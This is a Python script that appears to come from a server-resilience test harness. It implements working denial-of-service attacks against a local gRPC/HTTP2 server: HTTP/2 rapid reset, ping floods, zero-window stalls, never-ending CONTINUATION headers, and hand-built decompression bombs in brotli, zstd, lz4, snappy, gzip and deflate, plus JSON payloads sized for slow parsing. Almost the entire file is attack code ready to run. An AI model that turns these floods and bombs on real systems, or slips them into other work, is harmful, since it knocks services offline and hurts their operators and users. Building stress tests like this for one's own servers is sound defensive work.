#!/usr/bin/env python3
"""attackers.py KIND PORT: a client that means harm, as fast as one core of Python can, until SIGTERM.
It says "attacking" once it does, and at the end a line of JSON."""

import collections
import gzip
import json
import pathlib
import select
import signal
import socket
import struct
import sys
import time
import zlib

if __name__ == "__main__":
    sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))

from harness.memory import ACK, DATA, END_HEADERS, HEADERS, HELLO, PREFACE, SETTINGS, frame, request_block  # noqa: E402

END_STREAM = 1
RST_STREAM, PING, WINDOW_UPDATE, CONTINUATION = 3, 6, 8, 9
CANCEL = struct.pack(">I", 8)
INITIAL_WINDOW_SIZE = 4
PATIENCE_S = 1  # with a server that takes no more
MEGABYTE = 1 << 20
REQUEST = request_block("/helloworld.Greeter/SayHello")
said = collections.Counter()


def connect(port, hello=HELLO):
    one = socket.create_connection(("127.0.0.1", port), 10)
    one.sendall(hello)
    said["connections"] += 1
    return one


def send(one, data):
    """False when the server has hung up, or takes no more."""
    began()
    try:
        one.settimeout(PATIENCE_S)
        one.sendall(data)
        said["bytes"] += len(data)
        one.setblocking(False)
        while one.recv(1 << 16):
            pass
    except BlockingIOError:
        return True
    except OSError:
        pass
    said["hung_up_on"] += 1
    one.close()
    return False


def flood(port, pieces):
    """One connection after another: each piece is some hundred frames."""
    while True:
        one = connect(port)
        for piece in pieces:
            if not send(one, piece):
                break
        one.close()


def rapid_reset(port):
    def stream(n):
        return frame(HEADERS, END_HEADERS, n, REQUEST) + frame(RST_STREAM, 0, n, CANCEL)
    flood(port, [b"".join(stream(200 * i + 2 * k + 1) for k in range(100)) for i in range(100)])


def ping_flood(port):
    flood(port, [b"".join([frame(PING, 0, 0, b"12345678")] * 500)] * 100)


def zero_window(port):
    """60 replies of a megabyte each that nobody takes: 20 connections, one after another in a second; then again."""
    hello = (PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)) + frame(SETTINGS, ACK, 0))
    name = b"x" * (MEGABYTE - 16)  # with what goes before it, within a stream's first window
    size, number = b"", len(name)
    while number >= 128:
        size, number = size + bytes([number % 128 + 128]), number // 128
    message = b"\x0a" + size + bytes([number]) + name
    body = b"\0" + struct.pack(">I", len(message)) + message
    pieces = [body[i:i + 16_384] for i in range(0, len(body), 16_384)]

    def request(n):
        data = [frame(DATA, END_STREAM if piece is pieces[-1] else 0, n, piece) for piece in pieces]
        return frame(HEADERS, END_HEADERS, n, REQUEST) + b"".join(data)
    three = b"".join(request(n) for n in (1, 3, 5))  # within a connection's first window
    while True:
        held = []
        for _ in range(20):
            held.append(connect(port, hello))
            send(held[-1], three)
            time.sleep(0.05)
        for one in held:
            one.close()


def slow_headers(port):
    """200 header blocks that grow by a byte, and never end."""
    held = {}
    while True:
        for place in range(200):
            one = held.get(place)
            if one is None:
                held[place] = one = connect(port)
                sent = send(one, frame(HEADERS, 0, 1, REQUEST))
            else:
                sent = send(one, frame(CONTINUATION, 0, 1, b"\x82"))
            if not sent:
                del held[place]
        time.sleep(0.01)


# A message of 4 MiB less 11 bytes: the name, or field 15, which no request has, with zeros.
ZEROS = (4 << 20) - 16
FIELDS = {"a known field": b"\x0a\xf0\xff\xff\x01", "an unknown field": b"\x7a\xf0\xff\xff\x01"}


def in_gzip(field):
    return gzip.compress(field + bytes(ZEROS), 9)


def in_deflate(field):
    return zlib.compress(field + bytes(ZEROS), 9)


def in_brotli(field):
    """What the encoder makes at its usual level: Python has none."""
    first = {b"\x0a": "e04a27a3", b"\x7a": "e00a5407a5"}[field[:1]]
    return bytes.fromhex(f"9bf4ff3f000436{first}c18adb02917affb39700")


def in_zstd(field):
    """RFC 8878 3.1.1: blocks of 43,690 sequences without literals, each of which copies 3 bytes. Tables of one symbol, so that a
    sequence takes no bit: 12 bytes for 128 KiB, and far more time than a block of one repeated byte takes."""
    def block(kind, size, content, last):
        return (size << 3 | kind << 1 | last).to_bytes(3, "little") + content
    copies, left = [], ZEROS - 8
    while left >= 3:
        number = min(left // 3, 43_690)
        count = (b"\xff" + (number - 0x7f00).to_bytes(2, "little") if number >= 0x7f00 else
                 bytes([(number >> 8) + 128, number & 255]))
        copies.append(b"\0" + count + b"\x54\0\0\0\x01")
        left -= 3 * number
    first = field + bytes(8 + left)
    blocks = [block(0, len(first), first, 0)] + [block(2, len(c), c, 0) for c in copies]
    return bytes.fromhex("28b52ffd0060") + b"".join(blocks) + block(0, 0, b"", 1)


def in_lz4(field):
    """A frame of one block of 4 MiB: literals, and a copy whose length takes a byte for each 255 bytes."""
    copied = ZEROS + len(field) - len(field) - 1 - 5
    more, rest = divmod(copied - 4 - 15, 255)
    sequence = bytes([(len(field) + 1) << 4 | 15]) + field + b"\0" + b"\x01\x00" + b"\xff" * more + bytes([rest])
    content = sequence + b"\x50" + bytes(5)
    # The checksum of the descriptor: the second byte of xxHash32 of its two bytes.
    return bytes.fromhex("04224d18607073") + struct.pack("<I", len(content)) + content + bytes(4)


def crc32c(data):
    """Of a chunk; the table is small because this runs once."""
    crc = 0xffffffff
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = crc >> 1 ^ (0x82f63b78 if crc & 1 else 0)
    return crc ^ 0xffffffff


def in_snappy(field):
    """Chunks of 64 KiB, each a literal and copies of 64 bytes."""
    def chunk(kind, content, body):
        crc = crc32c(content)
        masked = ((crc >> 15 | crc << 17) + 0xa282ead8) & 0xffffffff
        return bytes([kind]) + (len(body) + 4).to_bytes(3, "little") + struct.pack("<I", masked) + body
    zeros = bytes(1 << 16)
    packed = b"\x80\x80\x04" + b"\0\0" + b"\xfe\x01\x00" * 1023 + b"\xfa\x01\x00"
    whole, rest = divmod(ZEROS, 1 << 16)
    first = field + bytes(rest)
    return (b"\xff\x06\0\0sNaPpY" + chunk(1, first, first) + chunk(0, zeros, packed) * whole)


PACKED = {"br": in_brotli, "zstd": in_zstd, "gzip": in_gzip, "deflate": in_deflate, "lz4": in_lz4, "snappy": in_snappy}
BOMB = in_brotli(FIELDS["an unknown field"])


def values(begin, unit, end, size=(4 << 20) - 1000):
    """JSON of that size, and the most that a server may take of it before it refuses the rest."""
    return (begin + ",".join([unit] * ((size - len(begin) - len(end)) // (len(unit) + 1))) + end).encode()


# What may be the worst text: as large as a message may be, and as large as the limit of values lets it be read.
# The request has no such field, so that protobuf's mapping reads them all.
JSON_TEXTS = {"strings": ('{"names":[', '""', "]}"), "objects": ('{"a":{"b":[', "{}", "]}}"), "arrays": ('{"a":[', "[]", "]}"),
              "numbers": ('{"a":[', "1", "]}"), "members": ('{"a":[', '{"a":1}', "]}")}


def json_texts():
    for name, (begin, unit, end) in JSON_TEXTS.items():
        yield f"4 MiB of {name}", values(begin, unit, end)
        yield f"16,000 {name}", values(begin, unit, end, 16_000 * (len(unit) + 1))


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def bomb_call(n, body=BOMB, codec="", coding="br"):
    """A request of gRPC whose message is `body`, which is in that coding."""
    block = request_block("/helloworld.Greeter/SayHello", "application/grpc" + codec)
    if coding:
        block += literal("grpc-encoding", coding)
    data = bytes([bool(coding)]) + struct.pack(">I", len(body)) + body
    pieces = [data[i:i + 16_384] for i in range(0, len(data), 16_384)]
    return frame(HEADERS, END_HEADERS, n, block) + b"".join(
        frame(DATA, END_STREAM if piece is pieces[-1] else 0, n, piece) for piece in pieces)


def connect_call(n, body, path="/helloworld.Greeter/SayHello"):
    """A request of Connect, or of REST, with JSON in gzip."""
    block = request_block(path, "application/json") + literal("content-encoding", "gzip")
    return frame(HEADERS, END_HEADERS, n, block) + frame(DATA, END_STREAM, n, body)


def codec_calls():
    """The requests of each codec that may be the worst: name, and what makes it for a stream."""
    for coding, pack in PACKED.items():
        for field, header in FIELDS.items():
            packed = pack(header)
            yield f"protobuf in {coding}: 4 MiB of zeros in {field}", lambda n, p=packed, c=coding: bomb_call(n, p, "", c)
    for name, text in json_texts():
        packed = gzip.compress(text)
        yield f"JSON over gRPC in gzip: {name}", lambda n, packed=packed: bomb_call(n, packed, "+json", "gzip")
        yield f"Connect in gzip: {name}", lambda n, packed=packed: connect_call(n, packed)
        yield f"REST in gzip: {name}", lambda n, packed=packed: connect_call(n, packed, "/hello")


def worst_json_call(n):
    return bomb_call(n, WORST_JSON, "+json", "gzip")


WORST_JSON = gzip.compress(values(*JSON_TEXTS["members"], 16_000 * 8))


def bombs(port, connections, call=bomb_call):
    """Small compressed requests that unpack to 4 MiB each, as fast as the server takes them, on many connections."""
    held, number = [], {}
    for _ in range(connections):
        held.append(connect(port))
        number[held[-1]] = 1
    unsent = dict.fromkeys(held, b"")
    for one in held:
        one.setblocking(False)
    began()
    while True:
        readable, writable, _ = select.select(held, held, [], 1)
        for one in readable:
            if not one.recv(1 << 16):
                raise ConnectionError("the server hung up")
        for one in writable:
            if not unsent[one]:
                first = number[one]
                number[one] = first + 40
                unsent[one] = b"".join(call(n) for n in range(first, first + 40, 2))
            sent = one.send(unsent[one])
            said["bytes"] += sent
            unsent[one] = unsent[one][sent:]
        time.sleep(0.001)


# The reply to a large name is as large: the client has room for it.
ROOMY_HELLO = (PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 2**31 - 1)) + frame(SETTINGS, ACK, 0)
               + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 65_536)))


def largest_message_s(port, call=bomb_call, calls=20):
    """The time that a calm server takes for one of these requests."""
    one = socket.create_connection(("127.0.0.1", port), 10)
    one.sendall(ROOMY_HELLO)
    replies = one.makefile("rb")  # whose read() waits for all bytes
    times = []
    for n in range(1, 2 * calls + 1, 2):
        request = call(n)
        before = time.perf_counter()
        one.sendall(request)
        ended = False
        while not ended:
            head = replies.read(9)
            replies.read(int.from_bytes(head[:3], "big"))
            ended = head[3] in (DATA, HEADERS) and head[4] & END_STREAM
        times.append(time.perf_counter() - before)
    one.close()
    return sorted(times)[len(times) // 2]


def worst_messages(port):
    """The time of each of codec_calls() in seconds, and the bytes of its request, by its name."""
    return {name: (largest_message_s(port, call, 5), len(call(1))) for name, call in codec_calls()}


KINDS = {"rapid reset": rapid_reset, "ping flood": ping_flood, "zero window": zero_window, "slow headers": slow_headers,
         "bombs": lambda port: bombs(port, 1), "bombs of 50": lambda port: bombs(port, 50),
         "bombs of JSON": lambda port: bombs(port, 1, worst_json_call)}


def began():
    if not said["began"]:
        said["began"] = 1
        print("attacking", flush=True)


def end(*_):
    print(json.dumps({name: said[name] for name in ("connections", "hung_up_on", "bytes")}), flush=True)
    sys.exit(0)


if __name__ == "__main__":
    signal.signal(signal.SIGTERM, end)
    KINDS[sys.argv[1]](int(sys.argv[2]))
